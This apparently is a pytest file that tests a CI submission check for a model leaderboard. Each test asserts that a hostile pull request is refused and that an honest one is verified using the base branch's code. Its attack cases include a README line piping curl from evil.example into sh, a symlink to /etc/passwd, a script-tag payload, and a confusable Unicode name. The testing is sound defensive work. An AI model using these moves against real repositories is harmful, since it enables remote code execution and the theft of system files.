"""Issue 29, case 8: the submission workflow verifies a pull request with the base branch's code.

`scripts/submission_check.sh BASE PR` is what `.github/workflows/submission.yml` runs; here it runs the
same way in a temporary git repository with a base branch and two pull-request branches: one that
edits `olmes/store/verify.py` and a store file (refused in one line), one that changes only the store
(verified by the base's code, its `logprob_hosts` change named).
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parent.parent
SCRIPT = REPO / "scripts" / "submission_check.sh"
WORKFLOW = REPO / ".github" / "workflows" / "submission.yml"
BASE_VERIFY = "# the base branch's verify\n"
PR_VERIFY = "# the pull request's verify: passes everything\n"


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True)
    return done.stdout


def _commit(repo: Path, files: dict[str, str], message: str) -> None:
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", message)


README_TEXT = """# a project

| model | task | score summary |
|---|---|---|
| M0 | OpenBookQA | [summary](leaderboard/models/M0/scores/openbookqa.scores.json) |

How to publish: read CONTRIBUTING.md.
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A base branch (a stub verify.py, a workflow, a README, a store with one log-prob host) and two
    PR branches: one that edits verify.py and the store, one that changes store.json's hosts."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "config", "user.email", "test@example.com")
    _git(repo, "config", "user.name", "test")
    store = {"format": "olmes.store/1", "logprob_hosts": ["https://old.example/blobs/"]}
    _commit(
        repo,
        {
            "olmes/store/verify.py": BASE_VERIFY,
            ".github/workflows/submission.yml": "name: submission\n",
            "README.md": README_TEXT,
            "leaderboard/store.json": json.dumps(store, indent=2) + "\n",
            "leaderboard/.gitignore": "/blobs/\n",
        },
        "base",
    )
    _git(repo, "checkout", "-q", "-b", "pr-code")
    _commit(
        repo,
        {"olmes/store/verify.py": PR_VERIFY, "leaderboard/store.json": json.dumps(store) + "\n"},
        "a submission that brings its own verify",
    )
    _git(repo, "checkout", "-q", "-b", "pr-store", "main")
    store["logprob_hosts"] = ["https://new.example/blobs/"]
    _commit(repo, {"leaderboard/store.json": json.dumps(store, indent=2) + "\n"}, "a store-only submission")
    _git(repo, "checkout", "-q", "main")
    return repo


def _branch(repo: Path, name: str, change) -> str:
    """A PR branch off main made by ``change(repo)`` (any edits of the working tree), committed."""
    _git(repo, "checkout", "-q", "-b", name, "main")
    change(repo)
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", name)
    _git(repo, "checkout", "-q", "main")
    return name


def _wrapper(tmp_path: Path) -> Path:
    """An `olmes` that records which checkout's verify.py it ran beside, then runs the real olmes."""
    wrapper = tmp_path / "olmes-wrapper"
    record = tmp_path / "ran.log"
    olmes = Path(sys.executable).parent / "olmes"
    wrapper.write_text(
        "#!/usr/bin/env bash\n"
        f'{{ echo "olmes $*"; echo "in $PWD"; cat olmes/store/verify.py; }} >> "{record}"\n'
        f'exec "{olmes}" "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    return wrapper


def _check(repo: Path, tmp_path: Path, pr: str, **more: str) -> tuple[subprocess.CompletedProcess, str]:
    summary = tmp_path / "summary.md"
    env = {**os.environ, "OLMES": str(_wrapper(tmp_path)), "GITHUB_STEP_SUMMARY": str(summary), **more}
    done = subprocess.run(
        ["bash", str(SCRIPT), "main", pr], cwd=repo, capture_output=True, text=True, env=env, timeout=120
    )
    return done, summary.read_text() if summary.exists() else ""


def _ran(tmp_path: Path) -> list[str]:
    """The olmes commands the check ran (the wrapper's log), by their subcommand."""
    log = tmp_path / "ran.log"
    lines = log.read_text().splitlines() if log.exists() else []
    return [line.split()[1] for line in lines if line.startswith("olmes ")]


def test_a_pull_request_changing_verify_and_the_store_is_refused_in_one_line(repo: Path, tmp_path: Path):
    done, summary = _check(repo, tmp_path, "pr-code")
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == 1, done.stdout
    assert "olmes/store/verify.py (outside leaderboard/)" in lines[0]
    assert "leaderboard/store.json (a file of the store's maintainers" in lines[0]
    assert "separate pull request" in lines[0]
    assert "olmes/store/verify.py" in summary and "separate pull request" in summary
    assert _ran(tmp_path) == ["check-submission"]  # the base's path check only: nothing fetched or verified
    assert _git(repo, "worktree", "list").count("\n") == 1


def test_a_change_of_the_log_prob_hosts_is_refused_before_anything_is_fetched(repo: Path, tmp_path: Path):
    """store.json (where log-prob files are fetched from) is the maintainers': a PR naming a new host
    would have the check download from it."""
    done, _summary = _check(repo, tmp_path, "pr-store")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "leaderboard/store.json (a file of the store's maintainers" in done.stdout
    assert _ran(tmp_path) == ["check-submission"]


def _rename(old: str, new: str):
    def change(repo: Path) -> None:
        (repo / new).parent.mkdir(parents=True, exist_ok=True)
        _git(repo, "mv", old, new)

    return change


def _write(name: str, text: str = "x\n", mode: int | None = None):
    def change(repo: Path) -> None:
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
        if mode is not None:
            (repo / name).chmod(mode)

    return change


def _link(name: str, target: str):
    def change(repo: Path) -> None:
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, repo / name)

    return change


ATTACKS = {  # issue 37's cases 1-4 and the allow-list's other refusals: (change, what the line must name)
    "rename-workflow-into-a-leftover": (
        _rename(".github/workflows/submission.yml", "leaderboard/.submission.abc.tmp"),
        [".github/workflows/submission.yml (outside leaderboard/)", "leaderboard/.submission.abc.tmp ("],
    ),
    "rename-verify-into-a-model-folder": (
        _rename("olmes/store/verify.py", "leaderboard/models/M9/scores/openbookqa.scores.json"),
        ["olmes/store/verify.py (outside leaderboard/)"],
    ),
    "gitignore-hides-the-models": (
        _write("leaderboard/.gitignore", "/blobs/\nmodels/\n"),
        ["leaderboard/.gitignore (a file of the store's maintainers"],
    ),
    "committed-publish-lock": (
        _write("leaderboard/.publish.lock", '{"pid": 1, "host": "elsewhere"}\n'),
        ["leaderboard/.publish.lock ("],
    ),
    "publish-leftover-with-junk": (
        _write("leaderboard/models/.M9.publishing-x1/page.html", "<script>alert(1)</script>\n"),
        ["leaderboard/models/.M9.publishing-x1/page.html ('.M9.publishing-x1' is not a model name"],
    ),
    "blobs-linked-out-of-the-store": (
        _link("leaderboard/blobs", "../../outside"),
        ["leaderboard/blobs (a symbolic link)"],
    ),
    "a-linked-summary": (
        _link("leaderboard/models/M9/scores/openbookqa.scores.json", "/etc/passwd"),
        ["leaderboard/models/M9/scores/openbookqa.scores.json (a symbolic link)"],
    ),
    "an-executable-file": (
        _write("leaderboard/models/M9/model.json", "{}\n", 0o755),
        ["leaderboard/models/M9/model.json (an executable file)"],
    ),
    "an-unknown-file-in-a-model-folder": (
        _write("leaderboard/models/M9/notes.html"),
        ["leaderboard/models/M9/notes.html (not a place the store's layout has for a file)"],
    ),
    "a-confusable-model-name": (
        _write("leaderboard/models/Pla\u0456n/model.json", "{}\n"),
        ["is not a model name"],
    ),
    "a-reproduction-record": (
        _write("leaderboard/reproductions/M0/reproduction.json", "{}\n"),
        ["leaderboard/reproductions/M0/reproduction.json (reproductions/ is written by maintainers"],
    ),
    "the-readme-outside-its-table": (
        _write("README.md", README_TEXT.replace("read CONTRIBUTING.md", "run curl evil.example | sh")),
        ["README.md (lines outside its table of store results)"],
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_path_a_submission_may_not_change_is_refused_before_anything_runs(repo, tmp_path, attack):
    change, named = ATTACKS[attack]
    branch = _branch(repo, attack, change)
    done, summary = _check(repo, tmp_path, branch)
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == 1 and lines[0].startswith("submission: refused: "), done.stdout
    for text in named:
        assert text in lines[0], lines[0]
    assert "refused" in summary
    assert _ran(tmp_path) == ["check-submission"]  # nothing fetched, applied or verified
    assert not (tmp_path / "outside").exists()
    assert _git(repo, "worktree", "list").count("\n") == 1


def test_an_honest_submission_of_a_new_model_is_verified_with_the_base_code(repo, tmp_path, built):
    """A PR adding model M1's folder (as olmes publish wrote it), the task files it needs and its row
    of the README's table: accepted, applied onto the base, verified clean by the base's code."""

    def add_model(repo: Path) -> None:
        shutil.copytree(built / "models", repo / "leaderboard" / "models")
        shutil.copytree(built / "tasks", repo / "leaderboard" / "tasks")
        (repo / "README.md").write_text(README_TEXT.replace("M0", "M1"))

    branch = _branch(repo, "pr-honest", add_model)
    done, summary = _check(repo, tmp_path, branch, OLMES_REPRODUCE_LIMIT="2")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "submission: accepted: the paths of model folder(s) M1" in done.stdout
    assert "submission: changes the rows of README.md's table of store results" in done.stdout
    assert _ran(tmp_path) == ["check-submission", "fetch-logprobs", "verify", "reproduce"]
    # M1's made-up weights are a local folder the store names by its name only: said, not a failure
    assert "olmes: reproduce: M1 not reproduced here: its weights are a local" in summary
    assert "olmes: verify: clean: 1 model(s)" in done.stderr
    assert "verify: clean" in summary
    assert BASE_VERIFY in (tmp_path / "ran.log").read_text()
    assert _git(repo, "worktree", "list").count("\n") == 1


def test_the_workflow_installs_the_base_and_runs_the_script():
    workflow = yaml.safe_load(WORKFLOW.read_text())
    steps = workflow["jobs"]["verify"]["steps"]
    checkout = next(step for step in steps if step.get("uses", "").startswith("actions/checkout"))
    assert "base" in checkout["with"]["ref"]
    runs = "\n".join(step.get("run", "") for step in steps)
    assert "scripts/submission_check.sh" in runs and 'pip install ".[models]"' in runs
    assert "download.pytorch.org/whl/cpu" in runs  # a CPU torch, never a CUDA build on the runner
    assert "pull/" in runs  # the PR's head is fetched, as data
    assert runs.index("pip install") < runs.index("git fetch")  # installed before the PR is fetched
    check = next(step for step in steps if "submission_check.sh" in step.get("run", ""))
    assert check["env"]["OLMES_REPRODUCE_LIMIT"] == "5"  # a sample of each new model reproduced
